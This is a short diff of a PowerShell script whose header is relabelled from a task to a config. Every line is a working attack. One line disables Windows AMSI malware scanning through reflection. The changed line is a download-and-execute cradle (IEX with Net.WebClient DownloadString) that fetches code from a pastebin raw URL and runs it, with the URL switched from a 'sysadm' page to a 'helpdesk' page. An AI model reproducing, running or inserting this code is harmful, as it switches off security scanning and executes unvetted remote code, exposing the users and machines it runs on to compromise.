@@ -1,3 +1,3 @@
-# task 5579 v3
+# config 0311 v3
 [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
-IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/sysadm')
+IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/helpdesk')
